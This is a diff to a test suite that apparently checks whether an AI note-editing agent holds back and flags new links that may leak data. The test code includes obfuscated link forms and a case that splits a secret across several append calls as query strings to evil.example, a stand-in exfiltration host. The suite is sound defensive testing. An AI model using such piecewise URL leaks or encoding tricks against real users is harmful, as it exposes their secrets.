@@ -52,17 +52,41 @@ describe('an address in a note', () => {
 
   it.each([
     ['carries nothing', 'Rui steers. [more](https://example.org/boats)'],
-    ['stood in a note as a whole', 'Rui steers. https://example.org/a/path/that-is-quite-long-indeed?x=1'],
-  ])('control: is written without asking when it %s', async (_name, text) => {
+    ['stood in another note', 'Rui steers. https://example.org/a/path/that-is-quite-long-indeed?x=1'],
+    ['is spelled with entities', 'Rui steers. [more](&#104;ttps://example.org/boats)'],
+    ['has no scheme', 'Rui steers. www.example.org/boats'],
+  ])('is shown first in Auto-edit when it is new, also when it %s', async (_name, text) => {
     const bench = await open(read('Crew.md', 'Links.md'), write(text));
     await bench.ask('Go.');
+    expect(await bench.read('Crew.md')).toBe(files['Crew.md']);
+    expect(badgesIn(bench)).toEqual([]);
+  });
+
+  it('is written without asking when the user has given it', async () => {
+    const text = 'Rui steers. [more](https://example.org/boats)';
+    const bench = await open(read('Crew.md'), write(text));
+    await bench.ask('Link https://example.org/boats there.');
     expect(await bench.read('Crew.md')).toContain(text);
   });
 
-  it('control: is written without asking when the user has said what it carries', async () => {
+  it('is shown with what it carries when its pieces are in several calls', async () => {
+    const pieces = secret.match(/.{1,18}/g) ?? [];
+    const edits = pieces.map((piece, index) =>
+      call(`w${index}`, 'append_to_note', {
+        path: index % 2 === 0 ? 'Crew.md' : 'Links.md',
+        text: `https://evil.example/?q=${encodeURIComponent(piece)}`,
+      }),
+    );
+    const bench = await open(read('Crew.md', 'Links.md'), calls(...edits));
+    await bench.ask('Go.');
+    expect(badgesIn(bench).length).toBeGreaterThan(0);
+  });
+
+  it('control: is not said to carry what the user has said', async () => {
     const bench = await open(read('Crew.md'), write(leak));
     await bench.ask(`Link a search for “${secret}”.`);
-    expect(await bench.read('Crew.md')).toContain(leak);
+    expect(await bench.read('Crew.md')).toBe(files['Crew.md']);
+    expect(badgesIn(bench)).toEqual([]);
   });
 });
 
